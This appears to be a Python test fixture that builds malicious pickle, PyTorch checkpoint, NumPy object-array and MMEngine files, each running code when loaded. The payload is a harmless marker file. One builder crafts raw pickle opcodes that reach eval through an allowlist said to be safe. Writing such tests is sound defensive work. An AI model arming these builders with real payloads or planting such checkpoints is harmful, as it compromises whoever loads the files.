"""Files that run code when they are read carelessly: each creates the file `executed` beside it."""

import io
import pickle
import struct
import zipfile

import numpy as np
import torch


def code(folder):
    """A Python expression that leaves a trace."""
    return f"__import__('pathlib').Path({str(folder / 'executed')!r}).touch()"


def executed(folder):
    """Whether it was run."""
    return (folder / "executed").exists()


class Evil:
    """Runs code when it is unpickled."""

    def __init__(self, folder):
        self.code = code(folder)

    def __reduce__(self):
        return eval, (self.code,)


def plain_pickle(folder, good):
    """A pickle that is no zip."""
    return pickle.dumps({**good, "evil": Evil(folder)}, protocol=2)


def pickled_object(folder, good):
    """An object in a checkpoint."""
    return _saved({**good, "evil": Evil(folder)})


def object_array(folder, good):
    """The same inside a NumPy array."""
    return _saved({**good, "evil": np.array([Evil(folder)], dtype=object)})


def code_in_meta(folder, good):
    """A checkpoint of tensors and text, whose text MMEngine runs when it resumes."""
    return _saved({**good, "meta": {**good["meta"], "config": f"{code(folder)}\n"}})


def through_the_safe_list(folder, good):
    """A valid checkpoint that reaches `eval` with what the OneDL line declares safe: getattr, slice, HistoryBuffer."""
    buffer = b"cmmengine.logging.history_buffer\nHistoryBuffer\n"
    builtins = _call(b"cbuiltins\ngetattr\n", b"cbuiltins\ngetattr\n", _text("__self__"))
    evaluate = _call(b"cbuiltins\ngetattr\n", builtins, _text("eval"))
    methods = _call(buffer) + _dict(update=evaluate, setdefault=b"cbuiltins\nslice\n") + b"b"
    evil = _call(buffer) + _dict(_statistics_methods=methods) + b"b"
    evil += _dict(statistics_methods=_text(code(folder))) + b"b"
    with zipfile.ZipFile(io.BytesIO(_saved(good))) as archive:
        entries = {info.filename: archive.read(info) for info in archive.infolist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries.items():
            if name.endswith("/data.pkl"):
                data = data[:-1] + _text("evil") + evil + b"s."
            archive.writestr(name, data)
    return out.getvalue()


KINDS = (plain_pickle, pickled_object, object_array, code_in_meta, through_the_safe_list)


def _saved(content):
    out = io.BytesIO()
    torch.save(content, out)
    return out.getvalue()


def _text(value):
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def _call(function, *args):
    return function + b"(" + b"".join(args) + b"tR"


def _dict(**items):
    return b"}" + b"".join(_text(key) + value + b"s" for key, value in items.items())
